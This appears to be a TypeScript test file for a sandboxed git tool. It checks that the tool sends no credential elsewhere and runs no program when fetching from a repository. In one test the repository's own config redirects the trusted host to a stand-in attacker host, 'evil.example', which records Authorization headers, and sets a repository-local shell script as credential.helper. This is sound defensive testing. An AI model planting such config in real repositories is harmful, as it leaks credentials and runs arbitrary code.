// Remotes of git over containers: how they are used, private hosts, and one attack of each kind. All others are in
// `full/`. The controls of those here stand where they run in bubblewrap's sandbox, in
// `tools/git/attacks/git-remote.test.ts`.
import { chmodSync, existsSync } from "node:fs";
import { join } from "node:path";
import { expect, onTestFinished, test } from "vitest";
import { NO_GIT_REMOTES } from "../../../../src/model/work/git-remote.ts";
import { git } from "../../../../src/tools/git/git.ts";
import { newCertificate } from "../../../support/certificate.ts";
import { Internet } from "../../../support/egress.ts";
import { plainGit } from "../../../support/git-place.ts";
import { gitServer, seed } from "../../../support/git-server.ts";
import { memoryKernel } from "../../../support/memory-kernel.ts";
import { noise } from "../../../support/noise.ts";
import { overContainers } from "../../../support/over-containers.ts";
import { freshPlace } from "../../../support/place.ts";
import { testedBackend } from "../../../support/sandbox-place.ts";

const HOST = "git.example";
const OTHER = "evil.example";
const ADDRESS = `https://${HOST}/team/service.git`;
const VALUE = `Basic ${Buffer.from("bot:hB5-marble-window-93").toString("base64")}`;

/** A kernel with the credential of `HOST`, whose repository holds `files`, and `OTHER`, which keeps what it is told. */
async function opened(files: Readonly<Record<string, string>>) {
  const place = freshPlace();
  const internet = new Internet();
  onTestFinished(() => internet.close());
  const certificate = newCertificate(join(place.base, "tls"), HOST, OTHER);
  const server = gitServer(join(place.base, "served"));
  seed(server.add("team/service.git"), join(place.base, "seed"), files);
  await internet.https(HOST, 443, certificate, server.listener);
  const told: (string | undefined)[] = [];
  await internet.https(OTHER, 8443, certificate, ({ headers }, response) => {
    told.push(headers.authorization);
    response.writeHead(404).end();
  });
  const kernel = await memoryKernel({
    tools: [git],
    preset: "open",
    backend: testedBackend,
    session: { role: "release_manager" },
    network: internet.network,
    sandbox: { file_mb: 1 },
    gitRemotes: {
      ...NO_GIT_REMOTES,
      authorization: ({ host }) => (host === HOST ? VALUE : undefined),
      authorities: () => certificate.cert,
    },
  });
  const ask = async (operation: string, args: readonly string[], cwd?: string): Promise<string> => {
    const { outcome } = await kernel.call("git", { operation, args, ...(cwd !== undefined && { cwd }) });
    if (kernel.internalErrors.length > 0) throw kernel.internalErrors[0];
    return outcome.kind === "success" ? "success" : JSON.stringify(outcome);
  };
  return { kernel, ask, server, told };
}

await overContainers(async () => {
  await import("../../../kernel/handles/git-remote.test.ts");
  await import("../../../tools/git/attacks/git-private-host.test.ts");

  test("a repository's own settings send no credential elsewhere and run no program", async () => {
    const { kernel, ask, server, told } = await opened({ "a.txt": "alpha\n" });
    expect(await ask("CLONE", [ADDRESS, "service"])).toBe("success");
    const plain = plainGit(join(kernel.root, "service"));
    const trace = join(kernel.root, "TRACE");
    plain.put("program.sh", `#!/bin/sh\ntouch "${trace}"\n`);
    chmodSync(join(kernel.root, "service/program.sh"), 0o755);
    plain.git("config", `url.https://${OTHER}:8443/.insteadOf`, `https://${HOST}/`);
    plain.git("config", "credential.helper", join(kernel.root, "service/program.sh"));
    const asked = server.requests.length;
    expect(await ask("FETCH", [], "service")).toBe("success");
    expect([told, existsSync(trace)]).toEqual([[], false]);
    expect(server.requests.slice(asked).map(({ authorization }) => authorization)).toContain(VALUE);
  });

  test("a pack larger than a file may be is not kept, and the clone leaves nothing", async () => {
    const { kernel, ask } = await opened({ "big.bin": noise(2_000_000).toString("hex") });
    expect(await ask("CLONE", [ADDRESS, "service"])).toContain("GIT_FAILED");
    expect(existsSync(join(kernel.root, "service/.git/HEAD"))).toBe(false);
  });
});
